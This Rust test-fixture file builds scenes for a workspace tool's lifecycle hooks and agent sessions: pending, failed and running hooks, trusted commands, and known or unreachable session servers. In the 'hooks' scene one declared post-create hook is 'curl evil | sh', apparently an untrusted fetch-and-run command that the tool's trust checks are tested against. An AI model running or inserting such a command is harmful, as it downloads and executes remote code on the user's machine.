//! What runs: hooks, and the sessions of agents.

use std::collections::BTreeMap;
use std::ffi::OsStr;

use wsctl::model::actual::RepositoryState;
use wsctl::model::address::Address;
use wsctl::model::hook::{Hook, HookMark, Outstanding};
use wsctl::model::mark::Marked;
use wsctl::model::name::BuilderName;
use wsctl::model::session::{Session, Sessions};
use wsctl::model::status::SessionState;
use wsctl::model::trust::Command;

use super::super::World;
use super::super::values::{repo, url};
use super::Scene;

pub(super) const SCENES: &[Scene] = &[("hooks", hooks), ("sessions", sessions), ("server-down", server_down)];

fn hook(run: &str) -> Hook {
    Hook { run: run.into(), timeout: 600 }
}

fn name(text: &str) -> BuilderName {
    BuilderName::new(text).unwrap()
}

/// What the mark of a builder knows.
fn marked(world: &mut World, builder: &str, change: impl FnOnce(&mut wsctl::model::mark::BuilderMark)) {
    let directory = world.actual.builders.get_mut(OsStr::new(builder)).unwrap();
    let Marked::Yes(mark) = &mut directory.mark else { unreachable!() };
    change(mark);
}

/// Builders that are made, tainted, held up, and on their way out.
fn hooks() -> World {
    World::new()
        .repo("api")
        .missing("lost", None)
        .builder("tainted", &["api"])
        .builder("running", &["api"])
        .builder("leaving", &["api"])
        .builder("stays", &["api"])
        .created()
        .with(|world| {
            for builder in ["tainted", "running"] {
                world.desired.builders.get_mut(builder).unwrap().hooks.post_create = Some(hook("task setup"));
                marked(world, builder, |mark| mark.hooks.post_create = Some(Outstanding::Pending));
            }
            marked(world, "tainted", |mark| mark.hooks.post_create = Some(Outstanding::Failed("exit code 2: no network".into())));
            world.actual.hooks_running.insert(Address::Hook(name("running"), None));
            let gone = |run| HookMark { post_create: None, pre_remove: Some(hook(run)) };
            marked(world, "leaving", |mark| mark.hooks = gone("docker compose down\nrm -rf cache\n"));
            world.desired.builders.retain(|builder, _| builder.as_str() != "leaving");
            world
                .actual
                .trusted
                .extend(["task setup", "docker compose down\nrm -rf cache\n"].map(|run| Command::Script(run.into())));
        })
        .builder("new", &["api"])
        .checkout("new", "api", |checkout| checkout.hooks.post_create = Some(hook("task setup")))
        .declared("new", |builder| builder.hooks.post_create = Some(hook("curl evil | sh")))
        .builder("waits", &["api", "lost"])
        .declared("waits", |builder| builder.hooks.post_create = Some(hook("task setup")))
        .with(|world| drop(world.actual.repositories.insert(repo("lost"), RepositoryState::Missing)))
}

/// A server that knows some of them.
fn sessions() -> World {
    World::new()
        .repo("api")
        .builder("known", &["api"])
        .builder("forgotten", &["api"])
        .builder("elsewhere", &["api"])
        .created()
        .with(|world| {
            let server = url("server");
            world.desired.opencode = Some(server.clone());
            let session = |id: &str, server: String| Some(Session { server, id: id.into() });
            marked(world, "known", |mark| mark.session = session("ses_1", server.to_string()));
            marked(world, "forgotten", |mark| mark.session = session("ses_2", server.to_string()));
            marked(world, "elsewhere", |mark| mark.session = session("ses_3", "http://127.0.0.1:1".into()));
            world.actual.sessions =
                Sessions::Known(BTreeMap::from([(name("known"), SessionState::Busy), (name("forgotten"), SessionState::Gone)]));
        })
        .builder("new", &["api"])
}

/// It does not answer: nothing of the workspace waits for it.
fn server_down() -> World {
    World::new().repo("api").builder("new", &["api"]).with(|world| {
        world.desired.opencode = Some(url("server"));
        world.actual.sessions = Sessions::Down("http://127.0.0.1:4096: Connection refused".into());
    })
}
